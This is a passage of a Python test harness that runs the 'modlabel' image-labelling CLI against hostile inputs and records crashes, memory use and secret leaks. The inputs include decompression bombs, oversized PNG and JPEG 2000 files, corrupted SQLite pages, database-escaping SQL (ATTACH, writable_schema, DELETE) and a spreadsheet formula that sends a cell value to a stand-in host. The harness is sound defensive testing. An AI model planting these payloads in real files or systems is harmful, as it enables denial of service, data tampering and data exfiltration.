"""Nightly-safety hazards of `modlabel`, reproduced through the real command line.

Each case builds the inputs it needs in a fresh temporary folder (images copied from
demo/incoming, DICOM, PNG and JPEG 2000 files written here; nothing is downloaded),
runs `modlabel` in subprocesses and prints one table row: the exit code, the images
rows in the database afterwards, the peak RSS of the command (and its children), whether
a Python traceback reached stdout/stderr, how many stderr lines there were and the last
one. Notes per case follow the table; --json writes everything, command by command.

Every command runs under a small wrapper process of its own (``WRAPPER``) that measures
``getrusage(RUSAGE_CHILDREN).ru_maxrss``, so each command is measured alone. The wrapper
also enforces --timeout (exit shown as "timeout") and --rss-cap (the command is killed
when its resident memory passes the cap, exit shown as "rss-cap"), and sends the
signals of the signal cases.

Usage: .venv/bin/python benchmarks/adversary.py --model demo/model.onnx
       [--cases a,b,...] [--postgres URL] [--json out.json] [--timeout 120] [--rss-cap 10240]
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
import traceback
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / "tests"))  # the hostile inputs the tests build too

from hostile import (  # noqa: E402
    EXPLICIT_LE,
    J2K_LOSSLESS,
    JPEG_BASELINE,
    JPEG_EXTENDED_12,
    JPEG_LOSSLESS_SV1,
    JPEG_LS_LOSSLESS,
    RLE_LOSSLESS,
    gdcm_decode_check,
    j2k_codestream,
    j2k_with_siz,
    jpeg_bytes,
    noise,
    poison_variants,
    write_deflate_bomb,
    write_dicom,
    write_png_stream,
)

DEMO_INCOMING = REPO / "demo" / "incoming"
SECRET = "hunter2secret"
FORMULA = '=HYPERLINK("http://x"&A1,"open")'


def previous_migration(code: str | None) -> str:
    """The revision before the newest of the modlabel under test (its migrations folder)."""
    tree = Path(code).resolve() if code else REPO
    revisions = sorted(p.name[:4] for p in (tree / "modlabel/migrations/versions").glob("0*.py"))
    return revisions[-2]


# -- the measuring wrapper ----------------------------------------------------------------

# Runs one command; prints one JSON line: exit code, its ru_maxrss (KiB), wall time and
# the signals it sent. Kills the command's process group on a timeout or past the RSS cap.
WRAPPER = r"""
import json, os, resource, signal, subprocess, sys, time

spec = json.loads(sys.argv[1])
out, err = open(spec["stdout"], "wb"), open(spec["stderr"], "wb")


def rss(pid):
    total = 0
    try:
        with open(f"/proc/{pid}/status") as f:
            total = next((int(x.split()[1]) for x in f if x.startswith("VmRSS:")), 0)
        with open(f"/proc/{pid}/task/{pid}/children") as f:
            kids = [int(k) for k in f.read().split()]
    except (OSError, ValueError):
        kids = []
    return total + sum(rss(k) for k in kids)


start = time.monotonic()
proc = subprocess.Popen(spec["cmd"], cwd=spec["cwd"], env=spec["env"], stdin=subprocess.DEVNULL,
                        stdout=out, stderr=err, start_new_session=True)
pending, sent, status, peak = sorted(spec["signals"]), [], None, 0
while proc.poll() is None:
    now = time.monotonic() - start
    while pending and now >= pending[0][0]:
        proc.send_signal(pending.pop(0)[1])
        sent.append(round(now, 3))
    if now > spec["timeout"]:
        status = "timeout"
        break
    peak = max(peak, rss(proc.pid))
    if peak > spec["rss_cap_kib"]:
        status = "rss-cap"
        break
    time.sleep(0.01)
if status is not None:
    os.killpg(proc.pid, signal.SIGKILL)
proc.wait()
print(json.dumps({
    "rc": status or proc.returncode,
    "maxrss_kib": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss,
    "wall_s": time.monotonic() - start,
    "signals_at": sent,
}))
"""


@dataclass
class Run:
    """One command's outcome."""

    tag: str
    argv: list[str]
    rc: int | str  # the exit code (negative: killed by that signal), "timeout" or "rss-cap"
    stdout: str
    stderr: str
    rss_mib: float
    wall_s: float
    signals_at: list[float] = field(default_factory=list)

    @property
    def tracebacks(self) -> int:
        return (self.stdout + self.stderr).count("Traceback")

    @property
    def stderr_lines(self) -> list[str]:
        return [line for line in self.stderr.splitlines() if line.strip()]

    def output(self) -> str:
        return self.stdout + self.stderr

    def summary(self) -> dict[str, Any]:
        lines = self.stderr_lines
        return {
            "tag": self.tag,
            "argv": self.argv,
            "rc": self.rc,
            "rss_mib": round(self.rss_mib, 1),
            "wall_s": round(self.wall_s, 2),
            "signals_at": self.signals_at,
            "tracebacks": self.tracebacks,
            "stderr_lines": len(lines),
            "stderr_tail": lines[-5:],
            "stdout_head": self.stdout.splitlines()[:5],
        }


class Skip(Exception):
    """A case that cannot run here (no --postgres, mount refused)."""


@dataclass
class Ctx:
    """What a case works with: its own temp folder, the CLI and the databases it made."""

    args: argparse.Namespace
    tmp: Path
    runs: list[Run] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)
    cleanups: list[Callable[[], None]] = field(default_factory=list)

    @property
    def model(self) -> str:
        return str(Path(self.args.model).resolve())

    def note(self, text: str) -> None:
        self.notes.append(text)

    def cli(
        self,
        *args: str,
        tag: str | None = None,
        cwd: Path | None = None,
        signals: Iterable[tuple[float, int]] = (),
        timeout: float | None = None,
    ) -> Run:
        """Run ``modlabel ARGS`` under the measuring wrapper."""
        n = len(self.runs)
        logs = self.tmp / "_logs"
        logs.mkdir(exist_ok=True)
        spec = {
            "cmd": [modlabel_bin(), *args],
            "cwd": str(cwd or self.tmp),
            "env": self.env(),
            "timeout": timeout or self.args.timeout,
            "rss_cap_kib": self.args.rss_cap << 10,
            "signals": [[t, int(s)] for t, s in signals],
            "stdout": str(logs / f"{n}.out"),
            "stderr": str(logs / f"{n}.err"),
        }
        done = subprocess.run(
            [sys.executable, "-c", WRAPPER, json.dumps(spec)],
            capture_output=True,
            text=True,
            timeout=spec["timeout"] + 60,
            check=True,
        )
        res = json.loads(done.stdout.strip().splitlines()[-1])
        run = Run(
            tag=tag or (args[0] if args else "modlabel"),
            argv=list(args),
            rc=res["rc"],
            stdout=Path(spec["stdout"]).read_text(errors="replace"),
            stderr=Path(spec["stderr"]).read_text(errors="replace"),
            rss_mib=res["maxrss_kib"] / 1024,
            wall_s=res["wall_s"],
            signals_at=res["signals_at"],
        )
        self.runs.append(run)
        return run

    def env(self) -> dict[str, str]:
        """The commands' environment: no MODLABEL_* settings; --code first on PYTHONPATH."""
        env = {k: v for k, v in os.environ.items() if not k.startswith("MODLABEL_")}
        if self.args.code:  # modlabel from another source tree (ahead of the editable install)
            env["PYTHONPATH"] = os.pathsep.join(
                [str(Path(self.args.code).resolve()), *filter(None, [env.get("PYTHONPATH")])]
            )
        return env

    def scan(self, *roots: Path | str, db: str, extra: Iterable[str] = (), **kw: Any) -> Run:
        return self.cli("scan", *map(str, roots), "--model", self.model, "--db", db, *extra, **kw)

    def postgres_db(self, tag: str) -> str:
        """A new database ``adv_<pid>_<tag>`` on --postgres (dropped after the case)."""
        if not self.args.postgres:
            raise Skip("needs --postgres")
        import psycopg

        name = f"adv_{os.getpid()}_{tag}"
        with psycopg.connect(pg_admin_url(self.args.postgres), autocommit=True) as conn:
            conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
            conn.execute(f'CREATE DATABASE "{name}"')
        self.cleanups.append(lambda: drop_postgres_db(self.args.postgres, name))
        return pg_url(self.args.postgres, name)


def modlabel_bin() -> str:
    here = Path(sys.executable).parent / "modlabel"
    if here.exists():
        return str(here)
    return str(REPO / ".venv" / "bin" / "modlabel")


# -- databases ------------------------------------------------------------------------------


def pg_url(base: str, database: str, *, driver: bool = False) -> str:
    import sqlalchemy as sa

    url = sa.engine.make_url(base).set(database=database)
    url = url.set(drivername="postgresql+psycopg" if driver else "postgresql")
    return url.render_as_string(hide_password=False)


def pg_admin_url(base: str) -> str:
    """--postgres itself (its database, e.g. ``test``), to create and drop databases from."""
    import sqlalchemy as sa

    return pg_url(base, sa.engine.make_url(base).database or "postgres")


def drop_postgres_db(base: str, name: str) -> None:
    import psycopg

    with psycopg.connect(pg_admin_url(base), autocommit=True) as conn:
        conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


def query_db(db: str, sql: str, params: tuple = ()) -> list[tuple]:
    """Rows of ``sql`` on a --db value (a SQLite path, opened read-only, or a PostgreSQL URL)."""
    if "://" not in db:
        if not Path(db).exists():
            raise FileNotFoundError(db)
        conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
        try:
            return conn.execute(sql, params).fetchall()
        finally:
            conn.close()
    import psycopg

    with psycopg.connect(db) as conn:
        return conn.execute(sql.replace("?", "%s"), params).fetchall()


def rows_in(db: str) -> int | str:
    try:
        return int(query_db(db, "SELECT COUNT(*) FROM images")[0][0])
    except FileNotFoundError:
        return "no db"
    except Exception as exc:
        return f"n/a ({type(exc).__name__})"


def scan_statuses(db: str) -> str:
    try:
        rows = query_db(db, "SELECT status FROM scans ORDER BY id")
    except FileNotFoundError:
        return "no db"
    except Exception as exc:
        return f"n/a ({type(exc).__name__}: {str(exc)[:60]})"
    return ",".join(r[0] for r in rows) or "none"


def scalar(db: str, sql: str) -> Any:
    try:
        return query_db(db, sql)[0][0]
    except Exception as exc:
        return f"n/a ({type(exc).__name__}: {str(exc)[:60]})"


def set_alembic_version(db: str, version: str) -> None:
    conn = sqlite3.connect(db)
    with conn:
        conn.execute("UPDATE alembic_version SET version_num = ?", (version,))
    conn.close()


# -- inputs ---------------------------------------------------------------------------------


def demo_jpegs(n: int) -> list[Path]:
    """``n`` JPEGs of demo/incoming, spread over its classes (empty when absent)."""
    found = sorted(DEMO_INCOMING.rglob("*.jpg")) if DEMO_INCOMING.is_dir() else []
    if len(found) <= n:
        return found
    step = len(found) / n
    return [found[int(i * step)] for i in range(n)]


def put_images(folder: Path, n: int, *, prefix: str = "img") -> list[Path]:
    """``n`` small JPEGs in ``folder``: copies of demo/incoming, else noise written here."""
    folder.mkdir(parents=True, exist_ok=True)
    sources = demo_jpegs(n)
    out = []
    for i in range(n):
        dest = folder / f"{prefix}_{i:03d}.jpg"
        if i < len(sources):
            shutil.copyfile(sources[i], dest)
        else:
            dest.write_bytes(jpeg_bytes(noise(96, 96, seed=i, channels=3)))
        out.append(dest)
    return out


# -- cases ----------------------------------------------------------------------------------

CASES: dict[str, Callable[[Ctx], dict[str, Any]]] = {}


def case(*names: str) -> Callable:
    def register(fn: Callable[..., dict[str, Any]]) -> Callable[..., dict[str, Any]]:
        for name in names:
            CASES[name] = lambda ctx, _name=name: fn(ctx, _name)
        return fn

    return register


def _missing(db: str) -> Any:
    return scalar(db, "SELECT COUNT(*) FROM images WHERE missing_since IS NOT NULL")


def _vanish_and_prune(ctx: Ctx, archive: Path, db: str, vanish: Callable[[], None]) -> dict:
    first = ctx.scan(archive, db=db, tag="scan-1")
    rows_before = rows_in(db)
    vanish()
    second = ctx.scan(archive, db=db, tag="scan-2")
    missing = _missing(db)
    prune = ctx.cli("prune", "--db", db)
    rows_after = rows_in(db)
    ctx.note(
        f"scan-1 rc={first.rc} rows={rows_before}; root emptied; scan-2 rc={second.rc}, "
        f"missing_since set on {missing} rows; prune rc={prune.rc}: rows {rows_before} -> "
        f"{rows_after}"
    )
    return {"exit": second.rc, "rows": rows_after, "head": second}


@case("vanished-root", "vanished-root-pg")
def vanished_root(ctx: Ctx, name: str) -> dict:
    db = ctx.postgres_db("vanish") if name.endswith("-pg") else str(ctx.tmp / "labels.db")
    archive = ctx.tmp / "archive"
    put_images(archive, 60)
    away = ctx.tmp / "away"

    def vanish() -> None:
        away.mkdir()
        for path in archive.iterdir():
            shutil.move(str(path), away / path.name)

    return _vanish_and_prune(ctx, archive, db, vanish)


@case("vanished-tmpfs")
def vanished_tmpfs(ctx: Ctx, name: str) -> dict:
    mnt = ctx.tmp / "mnt"
    mnt.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=64m", "adv-tmpfs", str(mnt)],
        capture_output=True,
        text=True,
    )
    if done.returncode != 0:
        raise Skip(f"mount -t tmpfs failed: {done.stderr.strip()[:80]}")

    def unmount() -> None:
        if os.path.ismount(mnt):
            subprocess.run(["umount", str(mnt)], check=False)

    ctx.cleanups.append(unmount)
    put_images(mnt, 60)
    db = str(ctx.tmp / "labels.db")

    def vanish() -> None:
        subprocess.run(["umount", str(mnt)], check=True)
        ctx.note(f"unmounted; mount point is an empty dir: {not any(mnt.iterdir())}")

    return _vanish_and_prune(ctx, mnt, db, vanish)


@case("poison-dicom")
def poison_dicom(ctx: Ctx, name: str) -> dict:
    archive = ctx.tmp / "archive"
    put_images(archive, 20)
    poison = None
    for label, frame, opts in poison_variants():
        candidate = write_dicom(
            ctx.tmp / "candidate.dcm",
            frame,
            syntax=JPEG_BASELINE,
            bits_stored=opts.get("bits_stored"),
        )
        rc, tail = gdcm_decode_check(candidate)
        ctx.note(f"gdcm decode check of '{label}': exit {rc}: {tail}")
        if rc in (-6, 134):
            poison = archive / "img_010x.dcm"  # sorts among the JPEGs
            shutil.move(str(candidate), poison)
            break
    if poison is None:
        ctx.note("no variant made GDCM abort; scanning the last one anyway")
        poison = archive / "img_010x.dcm"
        shutil.move(str(ctx.tmp / "candidate.dcm"), poison)
    db = str(ctx.tmp / "labels.db")
    first = ctx.scan(archive, db=db, tag="scan-1")
    rows_first = rows_in(db)
    second = ctx.scan(archive, db=db, tag="scan-2 (next night)")
    ctx.note(
        f"scan-1 rc={first.rc} rows={rows_first}; scan-2 rc={second.rc} rows={rows_in(db)}; "
        f"scans.status: {scan_statuses(db)}"
    )
    return {"exit": f"{first.rc}/{second.rc}", "rows": rows_in(db), "head": second}


def _row_outcome(db: str) -> str:
    try:
        rows = query_db(db, "SELECT label, error FROM images")
    except Exception as exc:
        return f"n/a ({type(exc).__name__})"
    return "; ".join(f"label={lab} error={(err or '')[:90]}" for lab, err in rows) or "no row"


@case("deflate-bomb")
def deflate_bomb(ctx: Ctx, name: str) -> dict:
    archive = ctx.tmp / "archive"
    archive.mkdir()
    size, inflated = write_deflate_bomb(archive / "bomb.dcm", 4096, 4096, 120)
    ctx.note(f"bomb.dcm: {size / 2**20:.1f} MiB on disk, inflates to {inflated / 2**30:.2f} GiB")
    db = str(ctx.tmp / "labels.db")
    run = ctx.scan(archive, db=db)
    ctx.note(f"row: {_row_outcome(db)}; wall {run.wall_s:.1f} s")
    return {"exit": run.rc, "rows": rows_in(db), "head": run}


@case("tall-png", "tall-rgb-png")
def tall_png(ctx: Ctx, name: str) -> dict:
    archive = ctx.tmp / "archive"
    archive.mkdir()
    rgb = name == "tall-rgb-png"
    height = 100_000_000 if rgb else 20_000_000
    size = write_png_stream(archive / "tall.png", 1, height, 3 if rgb else 1)
    ctx.note(f"tall.png: 1x{height:,} {'RGB' if rgb else 'grey'}, {size / 1024:.0f} KiB")
    db = str(ctx.tmp / "labels.db")
    run = ctx.scan(archive, db=db)
    ctx.note(f"row: {_row_outcome(db)}; wall {run.wall_s:.1f} s")
    return {"exit": run.rc, "rows": rows_in(db), "head": run}


@case("j2k-huge")
def j2k_huge(ctx: Ctx, name: str) -> dict:
    archive = ctx.tmp / "archive"
    archive.mkdir()
    stream = j2k_with_siz(j2k_codestream(noise()), 60_000, 60_000)
    write_dicom(archive / "huge.dcm", stream, syntax=J2K_LOSSLESS)
    ctx.note(f"J2K Lossless DICOM, Rows/Columns 64x64, SIZ 60000x60000 ({len(stream)} bytes)")
    db = str(ctx.tmp / "labels.db")
    run = ctx.scan(archive, db=db)
    ctx.note(f"row: {_row_outcome(db)}; scans.status: {scan_statuses(db)}")
    return {"exit": run.rc, "rows": rows_in(db), "head": run}


@case("explain-bombs")
def explain_bombs(ctx: Ctx, name: str) -> dict:
    tall = ctx.tmp / "tall.png"
    write_png_stream(tall, 1, 20_000_000, 1)
    bomb = ctx.tmp / "bomb.dcm"
    write_deflate_bomb(bomb, 4096, 4096, 120)
    runs = []
    for path in (tall, bomb):
        run = ctx.cli(
            "explain", str(path), "--model", ctx.model, "--out", str(ctx.tmp / f"ex-{path.stem}"),
            tag=f"explain {path.name}",
        )  # fmt: skip
        runs.append(run)
        last = (run.stderr_lines or [""])[-1][:90]
        ctx.note(
            f"explain {path.name}: rc={run.rc} rss={run.rss_mib:.0f} MiB in {run.wall_s:.1f} s; "
            f"{last}"
        )
    worst = max(runs, key=lambda r: r.rss_mib)
    return {"exit": "/".join(str(r.rc) for r in runs), "rows": "-", "head": worst}


@case("tracebacks-12bit")
def tracebacks_12bit(ctx: Ctx, name: str) -> dict:
    archive = ctx.tmp / "archive"
    archive.mkdir()
    good = jpeg_bytes(noise())
    sof = good.find(b"\xff\xc0")
    # SOF1 (extended) with a 12-bit precision byte: what a 12-bit JPEG's header says.
    twelve = good[:sof] + b"\xff\xc1" + good[sof + 2 : sof + 4] + b"\x0c" + good[sof + 5 :]
    j2k = j2k_codestream(noise())
    files = {
        "jpeg12.dcm": (twelve, JPEG_EXTENDED_12, {"bits_allocated": 16, "bits_stored": 12}),
        "jpegls_garbage.dcm": (b"\xff\xd8\xff\xf7" + bytes(200), JPEG_LS_LOSSLESS, {}),
        "jpeg_lossless_garbage.dcm": (b"\xff\xd8\xff\xc3" + bytes(200), JPEG_LOSSLESS_SV1, {}),
        "j2k_truncated.dcm": (j2k[:120], J2K_LOSSLESS, {}),
        "rle_garbage.dcm": (bytes(64), RLE_LOSSLESS, {}),
    }
    for fname, (frame, syntax, opts) in files.items():
        write_dicom(archive / fname, frame, syntax=syntax, **opts)
    write_dicom(archive / "native_short.dcm", bytes(100), syntax=EXPLICIT_LE, encapsulated=False)
    db = str(ctx.tmp / "labels.db")
    run = ctx.scan(archive, db=db)
    ctx.note(f"{run.tracebacks} 'Traceback' in the output of one scan of {len(files) + 1} files")
    ctx.note(f"rows: {_row_outcome(db)[:300]}")
    return {"exit": run.rc, "rows": rows_in(db), "head": run}


def _seconds(started: Any, finished: Any) -> float:
    from datetime import datetime

    def moment(value: Any) -> datetime:
        return value if isinstance(value, datetime) else datetime.fromisoformat(str(value))

    return (moment(finished) - moment(started)).total_seconds()


def _signal_run(ctx: Ctx, archive: Path, db: str, at: float, sig: int, tag: str) -> Run:
    run = ctx.scan(archive, db=db, signals=[(at, sig)], tag=tag)
    after = run.wall_s - run.signals_at[0] if run.signals_at else float("nan")
    ctx.note(
        f"{tag}: {signal.Signals(sig).name} at {at:.2f} s; exited {after:.2f} s after it with "
        f"{run.rc}; scans.status: {scan_statuses(db)}; rows {rows_in(db)}"
    )
    return run


def _signal_case(ctx: Ctx, archive: Path, at: float, sig: int, *, extra: str = "") -> dict:
    """A scan signalled ``at`` seconds after its start, beside an unsignalled reference run
    that says where in the scan that moment falls. ``extra``: "mid-scan" (halfway through
    scans.started_at..finished_at) or "start-up" (halfway to it) signals one more run."""
    ref_db = str(ctx.tmp / "reference.db")
    ref = ctx.scan(archive, db=ref_db, tag="reference (no signal)")
    try:
        started, finished = query_db(ref_db, "SELECT started_at, finished_at FROM scans")[0]
        busy = _seconds(started, finished)
    except Exception:
        busy = float("nan")
    ctx.note(
        f"unsignalled reference: rc={ref.rc}, {ref.wall_s:.2f} s in all, of which the scan "
        f"itself (scans.started_at..finished_at) {busy:.2f} s"
    )
    db = str(ctx.tmp / "labels.db")
    run = _signal_run(ctx, archive, db, at, sig, "as specified")
    out = {"exit": run.rc, "rows": rows_in(db), "head": run}
    if extra and busy == busy:  # not NaN
        startup = max(0.1, ref.wall_s - busy)
        moment = startup + busy / 2 if extra == "mid-scan" else startup / 2
        more = _signal_run(ctx, archive, str(ctx.tmp / "extra.db"), moment, sig, extra)
        out["exit"] = f"{run.rc}/{more.rc}"
    return out


@case("sigterm-early")
def sigterm_early(ctx: Ctx, name: str) -> dict:
    put_images(ctx.tmp / "archive", 60)
    return _signal_case(ctx, ctx.tmp / "archive", 0.1, signal.SIGTERM)


@case("sigint-early")
def sigint_early(ctx: Ctx, name: str) -> dict:
    put_images(ctx.tmp / "archive", 60)
    return _signal_case(ctx, ctx.tmp / "archive", 1.0, signal.SIGINT, extra="start-up")


@case("sigterm-walk")
def sigterm_walk(ctx: Ctx, name: str) -> dict:
    archive = ctx.tmp / "archive"
    put_images(archive, 1)
    notes = archive / "notes"
    notes.mkdir()
    for i in range(100_000):
        (notes / f"n{i:06d}.txt").touch()
    return _signal_case(ctx, archive, 2.0, signal.SIGTERM, extra="mid-scan")


def _scanned_db(ctx: Ctx, n: int = 20) -> tuple[str, Path]:
    archive = ctx.tmp / "archive"
    put_images(archive, n)
    db = str(ctx.tmp / "labels.db")
    run = ctx.scan(archive, db=db, tag="setup scan")
    if run.rc != 0:
        raise RuntimeError(f"setup scan failed ({run.rc}): {run.stderr[-300:]}")
    return db, archive


def _alembic(db: str) -> Any:
    return scalar(db, "SELECT version_num FROM alembic_version")


# Alembic run the way modlabel runs it (its connection in config.attributes), to put a
# scanned database back to an earlier revision: a database an older modlabel left.
DOWNGRADE = """
import sys
from pathlib import Path
import sqlalchemy as sa
from alembic import command
from alembic.config import Config
import modlabel.store as store
cfg = Config()
cfg.set_main_option("script_location", str(Path(store.__file__).parent / "migrations"))
engine = sa.create_engine(f"sqlite:///{sys.argv[1]}")
with engine.begin() as conn:
    cfg.attributes["connection"] = conn
    command.downgrade(cfg, sys.argv[2])
"""


@case("query-old-schema")
def query_old_schema(ctx: Ctx, name: str) -> dict:
    db, _ = _scanned_db(ctx)
    old = str(ctx.tmp / "downgraded.db")
    shutil.copyfile(db, old)
    # 1. only the recorded revision is the previous one (the schema is at head)
    previous = previous_migration(ctx.args.code)
    set_alembic_version(db, previous)
    stamped = ctx.cli("query", "class-counts", "--db", db, tag="query (stamped 0003)")
    # 2. the schema really is the previous revision (downgraded by Alembic)
    subprocess.run(
        [sys.executable, "-c", DOWNGRADE, old, previous],
        env=ctx.env(),
        check=True,
        capture_output=True,
    )
    before = _alembic(old)
    real = ctx.cli("query", "class-counts", "--db", old, tag="query (downgraded to 0003)")
    for run, path, was in ((stamped, db, previous), (real, old, before)):
        after = _alembic(path)
        verdict = "CHANGED by a read-only command" if after != was else "unchanged"
        ctx.note(
            f"{run.tag}: rc={run.rc}; alembic_version {was} -> {after} ({verdict}); "
            f"{(run.stderr_lines or ['(no stderr)'])[-1][:90]}"
        )
    return {"exit": f"{stamped.rc}/{real.rc}", "rows": rows_in(old), "head": real}


@case("query-new-schema")
def query_new_schema(ctx: Ctx, name: str) -> dict:
    db, archive = _scanned_db(ctx)
    set_alembic_version(db, "ffffffffffff")
    runs = [
        ctx.cli("query", "class-counts", "--db", db),
        ctx.cli("report", "--db", db, "--out", str(ctx.tmp / "report")),
        ctx.scan(archive, db=db),
    ]
    for run in runs:
        ctx.note(f"{run.tag}: rc={run.rc}: {(run.stderr_lines or [''])[-1][:110]}")
    ctx.note(f"alembic_version after: {_alembic(db)}")
    return {"exit": "/".join(str(r.rc) for r in runs), "rows": rows_in(db), "head": runs[0]}


@case("attach")
def attach(ctx: Ctx, name: str) -> dict:
    db, _ = _scanned_db(ctx)
    evil_dir = ctx.tmp / "x"
    evil_dir.mkdir()
    evil = evil_dir / "evil.db"
    statements = {
        "attach": f"ATTACH DATABASE '{evil}' AS evil",
        "writable_schema": "PRAGMA writable_schema=ON",
        "query_only_off": "PRAGMA query_only=OFF",
        "off_then_delete": "PRAGMA query_only=OFF; DELETE FROM images",
        "vacuum_into": f"VACUUM INTO '{evil_dir / 'copy.db'}'",
    }
    runs = []
    for tag, sql in statements.items():
        path = ctx.tmp / f"{tag}.sql"
        path.write_text(sql + "\n")
        run = ctx.cli("query", "--sql-file", str(path), "--db", db, tag=tag)
        runs.append(run)
        ctx.note(f"{tag}: rc={run.rc}: {(run.stderr_lines or ['(no stderr)'])[-1][:110]}")
    made = sorted(p.name for p in evil_dir.iterdir())
    ctx.note(f"files created in x/: {made or 'none'}; images rows after: {rows_in(db)}")
    return {"exit": "/".join(str(r.rc) for r in runs), "rows": rows_in(db), "head": runs[0]}


@case("damaged-sqlite")
def damaged_sqlite(ctx: Ctx, name: str) -> dict:
    db, archive = _scanned_db(ctx, 30)
    conn = sqlite3.connect(db)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.execute("PRAGMA journal_mode=DELETE")
    page_size = conn.execute("PRAGMA page_size").fetchone()[0]
    pages = conn.execute("PRAGMA page_count").fetchone()[0]
    conn.close()
    picks = sorted({int(p) for p in np.linspace(2, pages, num=min(8, pages - 1))})
    ctx.note(f"{pages} pages of {page_size} B; garbage over pages {picks}")
    rng = np.random.default_rng(7)
    codes: Counter = Counter()
    sql_text, heads = 0, []
    for page in picks:
        copy = ctx.tmp / f"damaged-p{page}.db"
        shutil.copyfile(db, copy)
        with open(copy, "r+b") as f:
            f.seek((page - 1) * page_size)
            f.write(rng.integers(0, 256, page_size, dtype=np.uint8).tobytes())
        for run in (
            ctx.scan(archive, db=str(copy), tag=f"scan p{page}"),
            ctx.cli("report", "--db", str(copy), "--out", str(ctx.tmp / f"rep{page}"),
                    tag=f"report p{page}"),
        ):  # fmt: skip
            codes[str(run.rc)] += 1
            if any(w in run.output() for w in ("[SQL:", "SELECT ", "INSERT ", "UPDATE ")):
                sql_text += 1
            heads.append(run)
    ctx.note(f"exit codes over {sum(codes.values())} commands: {dict(codes)}")
    ctx.note(f"{sql_text} of them printed SQL text")
    for run in heads:
        text = run.output()
        at = text.find("[SQL:")
        if at >= 0:
            ctx.note(f"e.g. {run.tag}: {' '.join(text[at : at + 140].split())}")
            break
    worst = next((r for r in heads if r.rc not in (0, 5)), heads[0])
    exits = " ".join(f"{k}x{v}" for k, v in sorted(codes.items()))
    return {"exit": exits, "rows": "-", "head": worst}


@case("no-such-db")
def no_such_db(ctx: Ctx, name: str) -> dict:
    if not ctx.args.postgres:
        raise Skip("needs --postgres")
    url = pg_url(ctx.args.postgres, "adv_does_not_exist")
    archive = ctx.tmp / "archive"
    put_images(archive, 1)
    runs = [ctx.scan(archive, db=url), ctx.cli("query", "class-counts", "--db", url)]
    for run in runs:
        ctx.note(f"{run.tag}: rc={run.rc} after {run.wall_s:.1f} s")
    return {"exit": "/".join(str(r.rc) for r in runs), "rows": "-", "head": runs[0]}


def _leaks(text: str) -> bool:
    return SECRET in text


@case("password-query")
def password_query(ctx: Ctx, name: str) -> dict:
    base = ctx.postgres_db("pw")
    url = f"{base}?password={SECRET}"
    bad = url.replace(":5432/", ":1/")  # nothing listens on port 1: the connection fails
    archive = ctx.tmp / "archive"
    put_images(archive, 5)
    report = ctx.tmp / "report"
    runs = [
        ctx.scan(archive, db=url),
        ctx.cli("report", "--db", url, "--out", str(report)),
        ctx.cli("query", "scans", "--db", url),
        ctx.scan(archive, db=bad, extra=["--db-retry", "0"], tag="scan (bad port)"),
        ctx.cli("query", "class-counts", "--db", bad, tag="query (bad port)"),
    ]
    for run in runs:
        ctx.note(f"{run.tag}: rc={run.rc}, secret in its output: {_leaks(run.output())}")
    html = report / "report.html"
    in_html = html.exists() and _leaks(html.read_text(errors="replace"))
    try:
        scans = query_db(base, "SELECT roots::text, coalesce(reason, '') FROM scans")
    except Exception as exc:
        scans = [(str(exc), "")]
    ctx.note(f"secret in report.html: {in_html}; in scans rows: {_leaks(repr(scans))}")
    return {"exit": "/".join(str(r.rc) for r in runs), "rows": rows_in(base), "head": runs[3]}


@case("libpq-string")
def libpq_string(ctx: Ctx, name: str) -> dict:
    base = ctx.postgres_db("libpq")
    dbname = base.rsplit("/", 1)[1]
    conninfo = f"host=127.0.0.1 dbname={dbname} user=postgres password={SECRET}"
    archive = ctx.tmp / "archive"
    put_images(archive, 3)
    cwd = ctx.tmp / "cwd"
    cwd.mkdir()
    run = ctx.scan(archive, db=conninfo, cwd=cwd)
    made = sorted(p.name for p in cwd.iterdir())
    ctx.note(f"files created in the cwd: {made or 'none'}")
    named = cwd / conninfo
    rows = rows_in(str(named)) if named.exists() else rows_in(base)
    ctx.note(
        f"secret in output: {_leaks(run.output())}; images rows in PostgreSQL {dbname}: "
        f"{rows_in(base)}; in the SQLite file named after the string: {rows}"
    )
    return {"exit": run.rc, "rows": rows, "head": run}


DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")


def _formula_cells(text: str) -> list[str]:
    cells = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in DANGEROUS_FIRST:
                try:
                    float(cell)
                except ValueError:
                    cells.append(cell)
    return cells


@case("csv-formulas")
def csv_formulas(ctx: Ctx, name: str) -> dict:
    archive = ctx.tmp / "archive"
    sources = put_images(archive, 4)
    for src, new in zip(sources, ("=cmd.jpg", "+1.jpg", "@x.jpg", "-2.jpg"), strict=True):
        src.rename(archive / new)
    write_dicom(
        archive / "formula.dcm",
        noise().tobytes(),
        syntax=EXPLICIT_LE,
        encapsulated=False,
        Modality="CT",
        InstitutionName=FORMULA,
        BodyPartExamined=FORMULA,
    )
    # A catalogue table whose figure ids are formulas (scan --table --id-column).
    figure = put_images(ctx.tmp / "catalogued", 1, prefix="figure")[0]
    figures = ctx.tmp / "figures.db"
    conn = sqlite3.connect(figures)
    with conn:
        conn.execute("CREATE TABLE figures (id TEXT, path TEXT)")
        conn.execute("INSERT INTO figures VALUES (?, ?)", ("=1+2", str(figure)))
    conn.close()
    db = str(ctx.tmp / "labels.db")
    scans = [
        ctx.scan(archive, db=db),
        ctx.scan(
            db=db,
            extra=["--table", "figures", "--table-db", f"sqlite:///{figures}", "--id-column", "id"],
            tag="scan --table",
        ),
    ]
    ctx.note(
        "scans rc " + "/".join(str(r.rc) for r in scans) + "; the stored paths are absolute, "
        "so '=cmd.jpg' & co. reach a cell as '/tmp/.../=cmd.jpg'"
    )
    sql = ctx.tmp / "dicom.sql"
    sql.write_text("SELECT path, dicom_modality, dicom_body_part, label, source_id FROM images\n")
    outputs: dict[str, str] = {}
    for tag, args in {
        "query low-confidence": ["low-confidence", "-p", "threshold=1.01"],
